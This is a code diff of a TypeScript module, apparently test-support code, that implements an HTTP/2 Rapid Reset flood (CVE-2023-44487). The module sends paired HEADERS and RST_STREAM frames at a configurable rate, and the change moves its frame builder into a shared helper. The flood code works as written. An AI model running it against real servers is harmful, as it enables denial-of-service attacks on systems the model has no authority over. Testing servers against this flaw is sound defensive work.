@@ -1,22 +1,13 @@
 /** A client of HTTP/2 that asks and takes back, again and again, faster than anybody could answer (CVE-2023-44487). */
 import { once } from 'node:events';
 import { connect } from 'node:tls';
+import { http2Frame } from '#test/support/http2-frame.ts';
 
 const headers = 0x1;
 const reset = 0x3;
 const settings = 0x4;
 const endStreamAndHeaders = 0x5;
 const cancel = Buffer.from([0, 0, 0, 8]);
-
-/** RFC 9113 section 4.1. */
-function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head[3] = type;
-  head[4] = flags;
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
 
 /** GET / over https, with indexed fields (RFC 7541 appendix A) and a literal authority. */
 function getRoot(host: string): Buffer {
@@ -42,7 +33,7 @@ export async function startRapidReset(port: number, host: string, perSecond: num
   socket.resume();
   socket.on('end', () => socket.destroy());
   socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
-  socket.write(frame(settings, 0, 0, Buffer.alloc(0)));
+  socket.write(http2Frame(settings, 0, 0, Buffer.alloc(0)));
   const request = getRoot(host);
   let streams = 0;
   const timer = setInterval(() => {
@@ -50,7 +41,10 @@ export async function startRapidReset(port: number, host: string, perSecond: num
     const frames: Buffer[] = [];
     for (let i = 0; i < perSecond / 100; i++) {
       const stream = 1 + 2 * streams++;
-      frames.push(frame(headers, endStreamAndHeaders, stream, request), frame(reset, 0, stream, cancel));
+      frames.push(
+        http2Frame(headers, endStreamAndHeaders, stream, request),
+        http2Frame(reset, 0, stream, cancel),
+      );
     }
     socket.write(Buffer.concat(frames));
   }, 10);
